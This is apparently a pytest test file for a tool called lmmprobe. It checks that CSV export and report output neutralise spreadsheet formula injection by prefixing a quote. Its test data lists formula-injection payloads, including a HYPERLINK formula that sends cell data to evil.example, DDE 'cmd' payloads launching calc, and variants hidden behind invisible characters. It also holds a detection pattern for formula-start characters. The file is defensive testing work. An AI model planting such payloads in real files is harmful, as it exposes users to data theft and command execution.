"""CSV cells that would start a spreadsheet formula are written inert (issue 34, item 6).

An imported predictions file (or a model) answers ``=HYPERLINK(...)``, ``+cmd``, ``@SUM(...)``,
and names its model ``-evil``: ``export --format csv`` and ``report --format csv`` write those
text cells with a leading quote (OWASP's advice), through the installed console script. A plain
number given as text (``-1.32``) and the numbers lmmprobe writes stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from tests.console import lmmprobe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "-2+3+cmd|' /C calc'!A0",
    # Behind what an import trims or a spreadsheet does not show (issue 34 re-test, finding 9).
    "\x00=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    # Behind a BOM a tab still starts the cell; fillers and marks drawn blank (re-test 3, item 10).
    "\ufeff\t+1",
    "\u3164=1+1",
    "\u115f=1+1",
    "\u1160=1+1",
    "\uffa0=1+1",
    "\u2800=1+1",
    "\u034f=1+1",
]
STARTS = tuple("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")
# What a spreadsheet may skip before it reads a formula's first character.
HIDDEN = " \t\x00\xa0\u3000\u200b\ufeff\u3164\u115f\u1160\uffa0\u2800\u034f"


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("csv")
    rows = [{"id": f"q{i}", "answer": text, "gt": "cat"} for i, text in enumerate(FORMULAS)]
    rows.append({"id": "@q-number", "answer": "-1.32", "gt": "-1.32"})
    (tmp / "preds.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    done = lmmprobe(
        "import", tmp / "preds.jsonl", "--field", "id=id,prediction=answer,gold=gt",
        "--model", "-evil", "--db", tmp / "db", "--out", tmp / "o",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return tmp / "db"


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_inert(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if cell.lstrip(HIDDEN).startswith(STARTS):
                assert cell == "-1.32", f"{column}: {cell!r} would start a formula"


def test_export_csv_writes_formulas_inert(db: Path) -> None:
    done = lmmprobe("export", "latest", "--format", "csv", "--db", db)
    assert done.returncode == 0, done.stderr
    rows = _cells(done.stdout)
    _assert_inert(rows)
    by_id = {r["sample_id"]: r for r in rows}
    for i, text in enumerate(FORMULAS):
        assert by_id[f"q{i}"]["text"] == "'" + text  # nothing lost: the quote is added
    assert {r["model"] for r in rows} == {"'-evil"}
    # A number given as text is a number to a spreadsheet, not a formula: as it was.
    number = by_id["'@q-number"]
    assert number["text"] == number["answer"] == number["gold_text"] == "-1.32"
    assert number["correct"] == "True" and number["latency_s"] == "0.0"
    # JSON lines keep the values as stored.
    lines = lmmprobe("export", "latest", "--format", "jsonl", "--db", db).stdout.splitlines()
    assert {json.loads(line)["text"] for line in lines} == {*FORMULAS, "-1.32"}


def test_report_csv_writes_formulas_inert(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    done = lmmprobe("report", "latest", "--db", db, "--format", "csv", "-o", out)
    assert done.returncode == 0, done.stderr
    rows = _cells(out.read_text(encoding="utf-8"))
    _assert_inert(rows)
    assert rows and {r["model"] for r in rows} == {"'-evil"}
    accuracy = next(r for r in rows if r["metric"] == "accuracy")
    assert float(accuracy["value"]) == pytest.approx(1 / (len(FORMULAS) + 1))
